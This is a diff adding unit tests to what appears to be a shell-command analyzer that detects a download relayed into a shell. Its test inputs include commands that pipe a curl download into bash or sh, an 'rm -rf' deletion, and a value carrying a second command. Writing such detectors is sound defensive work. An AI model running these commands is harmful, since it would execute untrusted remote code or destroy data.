@@ -206,3 +206,16 @@ describe('shell escapes of other command languages', () => {
     expect(ran("bash -c /tmp/s; printf 'rm -rf x' > /tmp/s")).toBe(false);
   });
 });
+
+describe('a download relayed to a shell', () => {
+  it('through a variable given $(curl …) or a >(…) fed by the download is network', () => {
+    expect(reasons('x=$(curl -s https://x.io); bash <<< "$x"')).toContain('bash (stdin):network');
+    expect(reasons('curl -s https://x.io | tee >(sh)')).toContain('sh (stdin):network');
+    expect(reasons('x=$(cat notes.txt); bash <<< "$x"')).not.toContain('bash (stdin):network');
+    expect(reasons('ls | tee >(sh)')).not.toContain('sh (stdin):network');
+  });
+  it('an unquoted positional splits into fields, which are not read again as shell syntax', () => {
+    expect(shape("sh -c '$1' _ 'rm -rf x'")).toEqual(['rm']);
+    expect(invocations("sh -c 'ls $1' _ 'a;b'").invocations.map((i) => i.args.map((w) => w.value))).toEqual([['a;b']]);
+  });
+});
